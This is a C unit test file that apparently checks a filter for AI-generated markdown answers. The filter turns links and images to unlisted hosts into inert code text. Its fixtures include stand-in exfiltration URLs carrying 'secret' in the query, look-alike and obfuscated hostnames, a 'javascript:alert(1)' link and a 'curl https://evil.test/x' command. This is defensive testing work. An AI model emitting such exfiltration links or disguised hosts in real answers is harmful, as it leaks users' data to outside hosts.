/* An answer that was made of what others wrote must not carry anything to a host that nobody named. */
#include "links.h"
#include "markup.h"
#include "mem.h"
#include "write.h"
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static int setup(void **state)
{
	struct links *links = links_create();

	links_allow(links, "example.org");
	links_allow(links, "https://usher.example.net:8443/base");
	links_said(
		links, "Look at https://Known.test/a?b and docs.known.test.\n> not at evil.test\n\nor here",
		strlen("Look at https://Known.test/a?b and docs.known.test.\n> not at evil.test\n\nor here"));
	*state = links;
	return 0;
}

static int teardown(void **state)
{
	links_destroy(*state);
	return 0;
}

struct sample {
	const char *markdown, *guarded; /* NULL: as it was */
};

static void check(void **state, const struct sample *samples, size_t count)
{
	for (size_t i = 0; i < count; i++) {
		char *guarded = links_guard(*state, samples[i].markdown, strlen(samples[i].markdown));

		assert_string_equal(guarded, samples[i].guarded ? samples[i].guarded : samples[i].markdown);
		free(guarded);
	}
}
#define CHECK(samples) check(state, samples, sizeof(samples) / sizeof(*(samples)))

static void test_what_is_known_stays_as_it_was_written(void **state)
{
	static const struct sample samples[] = {
		{ "Hello, *world*.  See [here](https://example.org/x \"title\").", NULL },
		{ "https://a.b.EXAMPLE.org:8080/x?y=https://example.org and usher.example.net", NULL },
		{ "[a](https://known.test/other) and <https://docs.known.test/>", NULL },
		{ "| a | b |\n|---|---|\n| `x` | 1.5 |", NULL },
		{ "Write to somebody@example.org.", NULL },
		{ "At 3.14, e.g. in v1.2.3 or main.c ... and so on", NULL },
		{ "", NULL },
	};

	CHECK(samples);
}

static void test_links_to_others_are_code(void **state)
{
	static const struct sample samples[] = {
		{ "See [the page](https://evil.test/?q=secret).", "See the page `evil.test/?q=secret`." },
		{ "![](https://evil.test/p.png?d=secret)", "`evil.test/p.png?d=secret`" },
		{ "![a picture](http://evil.test/p.png)", "a picture `evil.test/p.png`" },
		{ "https://evil.test/x", "`evil.test/x`" },
		{ "<https://evil.test/x>", "`evil.test/x`" },
		{ "[https://example.org](https://evil.test)", "https://example.org `evil.test`" },
		{ "[https://evil.test/x](https://example.org/)", "[`evil.test/x`](<https://example.org/>)" },
		{ "Read [this][1] now.\n\n[1]: https://evil.test/y 'z'", "Read this `evil.test/y` now." },
		{ "Nothing.\n\n[1]: https://evil.test/y", "Nothing." },
		{ "[x](//evil.test/y)", "x `//evil.test/y`" },
		{ "[x](javascript:alert(1))", "x `javascript:alert(1)`" },
		{ "somebody@evil.test", "`somebody@evil.test`" },
		{ "[![i](https://evil.test/i.png)](https://example.org/)",
		  "[i `evil.test/i.png`](<https://example.org/>)" },
	};

	CHECK(samples);
}

static void test_hosts_that_only_look_known_are_others(void **state)
{
	static const struct sample samples[] = {
		{ "[x](https://example.org@evil.test/)", "x `example.org@evil.test/`" },
		{ "[x](https://example.org.evil.test/)", "x `example.org.evil.test/`" },
		{ "[x](https://evilexample.org/)", "x `evilexample.org/`" },
		{ "[x](https://evil.test\\\\.example.org/)", "x `evil.test\\.example.org/`" },
		{ "[x](https://ex\xc3\xa4mple.org/)", "x `ex\xc3\xa4mple.org/`" },
		{ "[x](https://\xd0\xb5xample.org/)", "x `\xd0\xb5xample.org/`" },
		{ "[x](https://xn--example-abc.org/)", "x `xn--example-abc.org/`" },
		{ "[x](https://example.org%2eevil.test/)", "x `example.org%2eevil.test/`" },
		{ "[x](HTTPS://EVIL.TEST/)", "x `EVIL.TEST/`" },
		{ "[x](https://sub.docs.known.test/)", "x `sub.docs.known.test/`" },
	};

	CHECK(samples);
}

static void test_words_that_a_platform_would_link_are_code(void **state)
{
	static const struct sample samples[] = {
		{ "go to evil.test/x?q=secret now", "go to `evil.test/x?q=secret` now" },
		{ "(evil.test)", "(`evil.test`)" },
		{ "ev**il.te**st/x", "`ev`**`il.te`**`st/x`" },
		{ "evil\xe2\x80\x8b.test/x", "`evil.test/x`" },
		{ "ev\xc2\xadil.test", "`evil.test`" },
		{ "evil&#46;test", "`evil.test`" },
		{ "hxxps://evil", "`hxxps://evil`" },
		{ "ip 10.1.2.3/x", "ip `10.1.2.3/x`" },
		{ "evil\xef\xbc\x8e"
		  "test/",
		  "`evil\xef\xbc\x8e"
		  "test/`" },
		{ "# Read evil.test\n\nmore", "**Read `evil.test`**\n\nmore" },
		{ "<img src=\"https://evil.test/x\">", "\\<img src=\"`evil.test/x`\"\\>" },
		{ "<b>bold</b>", "\\<b\\>bold\\</b\\>" },
		/* names of characters that only some programs know */
		{ "evil&period;test/x", "evil\\&period;test/x" },
		{ "Fish & chips; R&D", NULL },
	};

	CHECK(samples);
}

/* The rest of the answer is what it was. */
static void test_the_rest_keeps_its_form(void **state)
{
	static const struct sample samples[] = {
		{ "# Title\n\n- a\n- b [x](https://evil.test)\n  1. c\n\n> q *e* **s** ~~d~~\n\n```c\nint a; "
		  "// https://evil.test\n```\n\n| a | b |\n|:--|--:|\n| `x\\|y` | 2 |\n\n***",
		  "# Title\n\n- a\n- b x `evil.test`\n  1. c\n\n> q *e* **s** ~~d~~\n\n```c\nint a; "
		  "// https://evil.test\n```\n\n| a | b |\n| :-- | --: |\n| `x\\|y` | 2 |\n\n***" },
		{ "1\\. no list, 5 \\* 3, a\\_b, evil.test", "1\\. no list, 5 \\* 3, a\\_b, `evil.test`" },
		{ "- [ ] task evil.test\n- [x] done", "- [ ] task `evil.test`\n- [x] done" },
		{ "a  \nb\nevil.test", "a\\\nb\n`evil.test`" },
	};

	CHECK(samples);
}

static void test_code_may_say_anything(void **state)
{
	static const char text[] = "Use `curl https://evil.test/x`.\n\n```\nping evil.test\n```";
	char *guarded = links_guard(*state, text, strlen(text));

	assert_string_equal(guarded, text);
	free(guarded);
}

static void test_what_a_person_quotes_is_not_said_by_them(void **state)
{
	(void)state;
	assert_true(links_quotes("> somebody\n> said\n\nWhat is it?", 30));
	assert_false(links_quotes("1 > 0", 5));
}

static const char grown[] =
	"Here is what I have found:\n\nThe page [about it](https://evil.test/?d=secret) and\n"
	"https://example.org/a say so.\n\n- one https://evil.test/2\n- two\n\nThat is all there is to say, "
	"is it not?";

/* Whatever is cut off anywhere: nothing that was shown holds such an address, nothing shown is taken back. */
static void test_a_growing_answer_never_shows_one(void **state)
{
	char *shown = mem_text("");

	for (size_t len = 0; len < sizeof(grown); len++) {
		char *more = links_growing(*state, grown, len);

		if (strncmp(more, shown, strlen(shown)) == 0) {
			free(shown);
			shown = mem_text(more);
		}
		assert_null(strstr(more, "https://evil"));
		assert_null(strstr(more, "](<https://evil"));
		free(more);
	}
	assert_non_null(strstr(shown, "`evil.test/?d=secret`"));
	assert_non_null(strstr(shown, "That is all there is to"));
	free(shown);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_what_is_known_stays_as_it_was_written, setup, teardown),
		cmocka_unit_test_setup_teardown(test_links_to_others_are_code, setup, teardown),
		cmocka_unit_test_setup_teardown(test_hosts_that_only_look_known_are_others, setup, teardown),
		cmocka_unit_test_setup_teardown(test_words_that_a_platform_would_link_are_code, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_the_rest_keeps_its_form, setup, teardown),
		cmocka_unit_test_setup_teardown(test_code_may_say_anything, setup, teardown),
		cmocka_unit_test_setup_teardown(test_what_a_person_quotes_is_not_said_by_them, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_a_growing_answer_never_shows_one, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
